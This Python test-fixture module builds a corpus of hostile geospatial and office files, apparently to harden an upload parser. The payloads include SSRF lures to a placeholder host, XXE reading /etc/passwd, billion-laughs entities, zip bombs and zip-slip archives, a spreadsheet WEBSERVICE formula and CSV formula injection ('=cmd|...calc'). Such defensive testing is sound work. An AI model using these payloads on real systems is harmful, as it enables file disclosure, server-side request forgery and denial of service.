"""Files made to reach out, to fill the memory, to never end, or to be something else.

Made by code, so that each says what it is. ``{url}`` stands for a host that must never be asked.
"""

# ruff: noqa: E501 - file formats have long lines

import io
import json
import sqlite3
import struct
import tempfile
import zipfile
from pathlib import Path

from tests.drawings import block, drawing, insert, polyline

VRT = (
    '<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>{source}</SrcDataSource>'
    "</OGRVRTLayer></OGRVRTDataSource>"
)
LURES = {
    "vrt": VRT.replace("{source}", "{url}/a.geojson"),
    "vrt-curl": VRT.replace("{source}", "/vsicurl/{url}/a.gpkg"),
    "vrt-local": VRT.replace("{source}", "/etc/passwd"),
    "wfs": "<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>",
    "gdalg": '{{"type":"gdal_streamed_alg","command_line":"gdal vector convert {url}/a.geojson"}}',
    "crs-link": '{{"type":"FeatureCollection","crs":{{"type":"link","properties":{{"href":'
    '"{url}/crs"}}}},"features":[]}}',
    "gml-xxe": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "{url}/x">]><FeatureCollection'
    ' xmlns="http://www.opengis.net/gml"><a>&x;</a></FeatureCollection>',
    "path": "/vsicurl/{url}/a.geojson",
}
DISGUISES = ("geojson", "json", "geojsonl", "gpkg", "fgb", "kml", "kmz", "dxf", "csv", "txt", "xlsx",
             "parquet", "zip", "shp", "gml")  # fmt: skip
KML = '<?xml version="1.0"?>{doctype}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{body}</Document></kml>'
RING = "<coordinates>105.6,21 105.61,21 105.61,21.01 105.6,21</coordinates>"
AREA = f"<Polygon><outerBoundaryIs><LinearRing>{RING}</LinearRing></outerBoundaryIs></Polygon>"
LAUGHS = "<!DOCTYPE lolz [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '" + f"&a{n - 1};" * 10 + "'>" for n in range(1, 12)
) + "]>"  # fmt: skip


def disguised(url):
    """Each lure under each ending."""
    return {
        f"{name}.{ending}": text.format(url=url).encode()
        for name, text in LURES.items()
        for ending in DISGUISES
    }


def xml(url):
    system = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{url}/x">]>'
    local = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    mark = "<Placemark><name>&x;</name>" + AREA + "</Placemark>"
    deep = "<MultiGeometry>" * 20_000 + AREA + "</MultiGeometry>" * 20_000
    link = f"<NetworkLink><Link><href>{url}/a.kml</href></Link></NetworkLink>"
    found = {
        "xxe-host.kml": KML.format(doctype=system, body=mark),
        "xxe-file.kml": KML.format(doctype=local, body=mark),
        "xxe-parameter.kml": KML.format(
            doctype=f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{url}/p"> %p;]>', body=mark
        ),
        "laughs.kml": KML.format(doctype=LAUGHS, body=mark.replace("&x;", "&a11;")),
        "deep.kml": KML.format(doctype="", body=f"<Placemark>{deep}</Placemark>"),
        "deep-tags.kml": "<kml>" + "<a>" * 500_000,
        "link.kml": KML.format(doctype="", body=link),
        "style-link.kml": KML.format(
            doctype="", body=f"<Style><IconStyle><Icon><href>{url}/i.png</href></Icon></IconStyle></Style>"
        ),
    }  # fmt: skip
    wide = KML.format(doctype=LAUGHS, body=mark.replace("&x;", "&a11;")).encode("utf-16")
    return {n: t.encode() for n, t in found.items()} | {"laughs-utf16.kml": wide}


def geojson(url):
    deep = "[" * 100_000
    collection = '{"type":"GeometryCollection","geometries":['
    ring = "[[105.6,21],[105.7,21],[105.7,21.1],[105.6,21]]"
    polygon = '{"type":"Polygon","coordinates":[%s]}'
    found = {
        "nan.geojson": polygon % ring.replace("105.7", "NaN", 1),
        "infinity.geojson": polygon % ring.replace("105.7", "Infinity", 1),
        "1e400.geojson": polygon % ring.replace("105.7", "1e400", 1),
        "1e308.geojson": polygon % ring.replace("105.7", "1e308", 1).replace("21.1", "-1e308"),
        "digits.geojson": polygon % ring.replace("105.7", "9" * 1_000_000, 1),
        "null.geojson": polygon % ring.replace("105.7", "null", 1),
        "text.geojson": polygon % ring.replace("105.7", '"105.7"', 1),
        "deep.geojson": '{"type":"Polygon","coordinates":' + deep,
        "deep-closed.geojson": '{"type":"Polygon","coordinates":' + deep + "]" * 100_000 + "}",
        "deep-collection.geojson": collection * 5_000 + polygon % ring + "]}" * 5_000,
        "deep-properties.geojson": '{"type":"Feature","geometry":null,"properties":' + '{"a":' * 50_000,
        "empty-ring.geojson": polygon % "[]",
        "no-rings.geojson": '{"type":"Polygon","coordinates":[]}',
        "open-ring.geojson": polygon % "[[105.6,21],[105.7,21],[105.7,21.1],[105.6,21.05]]",
        "two-points.geojson": polygon % "[[105.6,21],[105.7,21],[105.6,21]]",
        "type.geojson": '{"type":"Circle","coordinates":[1,2]}',
        "no-type.geojson": "{}",
        "list.geojson": "[]",
        "number.geojson": "1",
        "cut.geojson": (polygon % ring)[:-20],
        "many.geojson": '{"type":"FeatureCollection","features":['
        + ",".join(['{"type":"Feature","properties":{},"geometry":null}'] * 100_000) + "]}",
        "crs-url.geojson": json.dumps({"type": "FeatureCollection", "features": [], "crs": {
            "type": "name", "properties": {"name": f"{url}/crs"}}}),
        "crs-file.geojson": json.dumps({"type": "FeatureCollection", "features": [], "crs": {
            "type": "name", "properties": {"name": "/etc/passwd"}}}),
    }  # fmt: skip
    bytes_ = {n: t.encode() for n, t in found.items()}
    return bytes_ | {
        "latin1.geojson": (polygon % ring).encode() + b"\xe9",
        "nul.geojson": b"\x00" * 9,
    }


def zipped(members, method=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as made:
        for name, data in members.items():
            made.writestr(name, data)
    return out.getvalue()


def linked(target):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        info = zipfile.ZipInfo("a.geojson")
        info.external_attr = 0o120777 << 16
        made.writestr(info, target)
    return out.getvalue()


def archives(url):
    bomb = zipped({"a.shp": bytes(200 << 20)})
    lure = LURES["crs-link"].format(url=url)
    encrypted = bytearray(zipped({"a.shp": b"x" * 100}))
    encrypted[6] |= 1
    at = encrypted.index(b"PK\x01\x02")
    encrypted[at + 8] |= 1
    huge = zipped({"a.gpkg": b"SQLite format 3\x00" + bytes(1000)})
    return {
        "bomb.zip": bomb,
        "bomb.kmz": zipped({"doc.kml": b"<kml>" + b" " * (200 << 20)}),
        "nested.zip": zipped({"a.zip": bomb, "b.zip": bomb}),
        "up.zip": zipped({"../../evil.shp": b"x", "a.geojson": b"{}"}),
        "root.zip": zipped({"/etc/evil.shp": b"x"}),
        "backslash.zip": zipped({"..\\..\\evil.shp": b"x"}),
        "drive.zip": zipped({"C:evil.shp": b"x"}),
        "link.zip": linked("/etc/passwd"),
        "members.zip": zipped({f"{n}.shp": b"" for n in range(5_000)}),
        "encrypted.zip": bytes(encrypted),
        "lying.zip": huge.replace((1016).to_bytes(4, "little"), (10).to_bytes(4, "little")),
        "cut.zip": huge[:-30],
        "lure.zip": zipped({"a.geojson": lure}),
        "lure-vrt.zip": zipped({"a.shp": LURES["vrt"].format(url=url), "a.dbf": b"", "a.shx": b""}),
        "empty.zip": zipped({}),
        "empty.kmz": zipped({"a.txt": b"x"}),
    }


def sheet(cells, more=""):
    return (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
        f'main">{more}<sheetData>{cells}</sheetData></worksheet>'
    )


TYPES = """<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>
<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>
</Types>"""
RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
REL = '<Relationship Id="{id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/>'


def workbook(cells, url, shared="", more="", doctype=""):
    """A workbook with a link to another one on a host."""
    external = REL.format(id="rId1", kind="externalLinkPath", target=f"{url}/b.xlsx",
                          mode=' TargetMode="External"')  # fmt: skip
    inner = "".join(
        REL.format(id=i, kind=k, target=t, mode="")
        for i, k, t in (("rId1", "worksheet", "worksheets/sheet1.xml"),
                        ("rId2", "sharedStrings", "sharedStrings.xml"),
                        ("rId3", "externalLink", "externalLinks/externalLink1.xml"))
    )  # fmt: skip
    head = '<?xml version="1.0"?>' + doctype
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return zipped({
        "[Content_Types].xml": TYPES,
        "_rels/.rels": RELS.format(REL.format(id="rId1", kind="officeDocument",
                                              target="xl/workbook.xml", mode="")),
        "xl/_rels/workbook.xml.rels": RELS.format(inner),
        "xl/workbook.xml": f'{head}<workbook xmlns="{main}" xmlns:r="{office}"><sheets>'
        '<sheet name="A" sheetId="1" r:id="rId1"/></sheets><externalReferences>'
        '<externalReference r:id="rId3"/></externalReferences></workbook>',
        "xl/worksheets/sheet1.xml": sheet(cells, more),
        "xl/sharedStrings.xml": f'{head}<sst xmlns="{main}">{shared}</sst>',
        "xl/externalLinks/externalLink1.xml": f'<?xml version="1.0"?><externalLink xmlns="{main}">'
        f'<externalBook xmlns:r="{office}" r:id="rId1"/></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": RELS.format(external),
    })  # fmt: skip


def row(*cells):
    made = "".join(
        f"<c><v>{c}</v></c>" if isinstance(c, int | float)
        else f"<c><f>{c[1:]}</f></c>" if c.startswith("=")
        else f'<c t="inlineStr"><is><t>{c}</t></is></c>'
        for c in cells
    )  # fmt: skip
    return f"<row>{made}</row>"


def workbooks(url):
    head = row("Điểm", "X", "Y")
    fetch = row("M1", f'=WEBSERVICE("{url}/x")', 570100) + row("M2", "=[1]A!B2", 570200)
    laughs = "<si><t>&a11;</t></si>"
    return {
        "formulas.xlsx": workbook(head + fetch, url),
        "hyperlink.xlsx": workbook(head + row("M1", f'=HYPERLINK("{url}/x")', 1), url),
        "laughs.xlsx": workbook('<row><c t="s"><v>0</v></c></row>', url, laughs, doctype=LAUGHS),
        "xxe.xlsx": workbook(head, url, "<si><t>&x;</t></si>",
                             doctype=f'<!DOCTYPE a [<!ENTITY x SYSTEM "{url}/x">]>'),
        "dimension.xlsx": workbook(row("a"), url, more='<dimension ref="A1:XFD1048576"/>'),
        "far-cell.xlsx": workbook('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', url),
        "rows.xlsx": workbook("<row/>" * 300_000, url),
        "bomb.xlsx": workbook(head + row(" " * (80 << 20), 1, 2), url),
        "strings.xlsx": workbook(head, url, "<si><t>a</t></si>" * 2_000_000),
        "not.xlsx": zipped({"word/document.xml": "<a/>"}),
        "up.xlsx": zipped({"../../evil.xml": "x", "[Content_Types].xml": TYPES}),
    }  # fmt: skip


def drawings(url):
    square = polyline([(0, 0), (0, 9), (9, 9), (9, 0)])
    depth = [
        block(f"B{n}", "".join(insert(f"B{n + 1}", i, n) for i in range(10))) for n in range(7)
    ]
    chain = [block(f"C{n}", insert(f"C{n + 1}", 0, 0)) for n in range(100_000)]
    array = insert("B7", 0, 0) + " 70\n30000\n 71\n30000\n 44\n1\n 45\n1\n"
    return {
        "blocks.dxf": drawing(insert("B0", 0, 0), "".join(depth) + block("B7", square)),
        "chain.dxf": drawing(insert("C0", 0, 0), "".join(chain) + block("C100000", square)),
        "self.dxf": drawing(insert("B0", 0, 0), block("B0", square + insert("B0", 1, 1))),
        "array.dxf": drawing(array, block("B7", square)),
        "count.dxf": drawing(square.replace(" 90\n4\n", " 90\n2000000000\n")),
        "nan.dxf": drawing(square.replace(" 10\n9\n", " 10\nnan\n")),
        "huge.dxf": drawing(square.replace(" 10\n9\n", " 10\n1e308\n")),
        "xref.dxf": drawing(insert("X", 0, 0), block("X", f"  1\n{url}/x.dwg\n")),
        "image.dxf": drawing(f"  0\nIMAGE\n  8\n0\n  1\n{url}/i.png\n"),
        "cut.dxf": drawing(square)[:200],
    }  # fmt: skip


def tables(url):
    head = "Điểm;X;Y\n"
    deep = "GEOMETRYCOLLECTION(" * 100_000
    found = {
        "wkt-deep.csv": f'id,wkt\n1,"{deep}"\n',
        "wkt-nan.csv": 'id,wkt\n1,"POLYGON ((nan 1, 2 2, 3 3, nan 1))"\n',
        "wkt-huge.csv": 'id,wkt\n1,"POLYGON ((1e400 1, 2 2, 3 3, 1e400 1))"\n',
        "wkt-crs.csv": f'id,wkt,crs\n1,"POLYGON ((1 1, 2 2, 3 1, 1 1))",{url}/crs\n',
        "wkt-grid.csv": 'id,wkt,crs\n1,"POLYGON ((1 1, 2 2, 3 1, 1 1))",'
        f'"+proj=longlat +nadgrids={url}/grid.tif +type=crs"\n',
        "line.csv": "1" * (8 << 20),
        "commas.csv": "," * 2_000_000,
        "quote.csv": 'Điểm,X,Y\n"' + "a\n" * 10_000,
        "columns.csv": ";".join(["X"] * 20_000) + "\n" + ";".join(["1"] * 20_000),
        "rows.csv": head + "M1;2321456.7;570100\n" * 200_000,
        "digits.csv": head + f"M1;{'9' * 100_000};{'1.' * 50_000}1\n" * 5,
        "numbers.csv": head + "M1;1e400;nan\nM2;inf;-inf\nM3;0x10;1_000\n",
        "huge.csv": head + "M1;" + "9" * 39 + ";1\nM2;1;" + "9" * 39 + "\nM3;2;3\n",
        "formula.csv": head + '=cmd|"/c calc"!A1;=1+1;@SUM(A1)\n',
        "spaces.txt": "Điểm  Phương vị  Cạnh\nM1  N" + " " * 200_000 + "x  1\n",
        "traverse.txt": "Điểm;Phương vị;Cạnh\nM1;" + "N" * 100_000 + ";1\n",
        "scribble.txt": head
        + "".join(f"M{n};{2321000 + n * 7919 % 997};{570000 + n * 104729 % 991}\n" for n in range(9_000)),
        "rings.txt": head
        + "\n".join(f"1;{n};{n}\n2;{n};{n + 1}\n3;{n + 1};{n}\n" for n in range(6_000)),
        "words.txt": "a " * 500_000,
        "header.txt": "\n".join(["Điểm;X;Y"] * 10_000),
    }  # fmt: skip
    return {n: t.encode() for n, t in found.items()} | {"utf16.csv": (head * 9).encode("utf-16")}


def endless_geopackage():
    """A GeoPackage whose layer is a view that never ends."""
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / "a.gpkg"
        _make_endless(file)
        return file.read_bytes()


def _make_endless(file):
    with sqlite3.connect(file) as made:
        made.executescript(
            """
            PRAGMA application_id = 1196444487; PRAGMA user_version = 10300;
            CREATE TABLE gpkg_spatial_ref_sys (srs_name TEXT, srs_id INTEGER PRIMARY KEY,
              organization TEXT, organization_coordsys_id INTEGER, definition TEXT, description TEXT);
            INSERT INTO gpkg_spatial_ref_sys VALUES ('u', 0, 'NONE', 0, 'undefined', '');
            CREATE TABLE gpkg_contents (table_name TEXT PRIMARY KEY, data_type TEXT, identifier TEXT,
              description TEXT, last_change TEXT, min_x REAL, min_y REAL, max_x REAL, max_y REAL,
              srs_id INTEGER);
            CREATE TABLE gpkg_geometry_columns (table_name TEXT, column_name TEXT,
              geometry_type_name TEXT, srs_id INTEGER, z INTEGER, m INTEGER);
            CREATE VIEW endless AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)
              SELECT i AS fid, NULL AS geom FROM n;
            INSERT INTO gpkg_contents VALUES
              ('endless', 'features', 'e', '', '2024-01-01T00:00:00Z', 0, 0, 1, 1, 0);
            INSERT INTO gpkg_geometry_columns VALUES ('endless', 'geom', 'POLYGON', 0, 0, 0);
            """
        )
    made.close()


def shapefile(shape_bytes):
    """A zipped shapefile whose one shape says what it likes of itself."""
    content = struct.pack(">ii", 1, len(shape_bytes) // 2) + shape_bytes
    length = (100 + len(content)) // 2
    head = struct.pack(">iiiiiii", 9994, 0, 0, 0, 0, 0, length) + struct.pack(
        "<ii8d", 1000, 5, *[0] * 8
    )
    index = (
        head[:24]
        + struct.pack(">i", 54)
        + head[28:]
        + struct.pack(">ii", 50, len(shape_bytes) // 2)
    )
    table = (
        struct.pack("<BBBBIHH20x", 3, 24, 1, 1, 1, 65, 11)
        + b"id".ljust(11, b"\0")
        + b"C"
        + bytes(4)
    )
    table += bytes([10, 0]) + bytes(14) + b"\r" + b" " + b"a".ljust(10) + b"\x1a"
    return zipped({"a.shp": head + content, "a.shx": index, "a.dbf": table})


def binaries():
    many = struct.pack("<i4dii", 5, 0, 0, 1, 1, 2_000_000_000, 2_000_000_000) + bytes(64)
    return {
        "endless.gpkg": endless_geopackage(),
        "cut.gpkg": endless_geopackage()[:700],
        "header.gpkg": b"SQLite format 3\x00" + b"\xff" * 5_000,
        "header.fgb": b"fgb\x03fgb\x00" + struct.pack("<I", 0xFFFFFFFF) + b"\xff" * 200,
        "small.fgb": b"fgb\x03fgb\x00" + struct.pack("<I", 8) + b"\xff" * 200,
        "header.parquet": b"PAR1" + b"\xff" * 100 + struct.pack("<I", 0x7FFFFFFF) + b"PAR1",
        "parts.zip": shapefile(many),
        "length.zip": shapefile(struct.pack("<i", -5)),
    }


def plain():
    """Nothing, rubbish, and something else than its ending says."""
    found = {}
    for ending in DISGUISES:
        found[f"empty.{ending}"] = b""
        found[f"rubbish.{ending}"] = bytes(range(256)) * 40
        found[f"pdf.{ending}"] = b"%PDF-1.7\n" + b"x" * 100
    return found | {"no-ending": b"\x7fELF" + bytes(100), "a.exe": b"MZ" + bytes(100)}


def corpus(url):
    """Every file, by name."""
    parts = (disguised(url), xml(url), geojson(url), archives(url), workbooks(url), drawings(url),
             tables(url), binaries(), plain())  # fmt: skip
    every = {name: data for part in parts for name, data in part.items()}
    return {n: d.encode() if isinstance(d, str) else d for n, d in every.items()}


def names(url):
    """Names that are addresses, paths or attacks on a header."""
    return (
        f"{url}/a.geojson", f"/vsicurl/{url}/a.gpkg", f"/vsizip//vsicurl/{url}/a.zip",
        f"GeoJSON:{url}/a.geojson", '{"type":"FeatureCollection","features":[]}',
        f"<OGRWFSDataSource><URL>{url}</URL></OGRWFSDataSource>", "../../../../etc/passwd",
        "a.geojson\r\nX-Evil: 1", "a\x00.geojson", "/vsistdin/", "%2e%2e%2fa.kml", "a" * 5_000,
    )  # fmt: skip
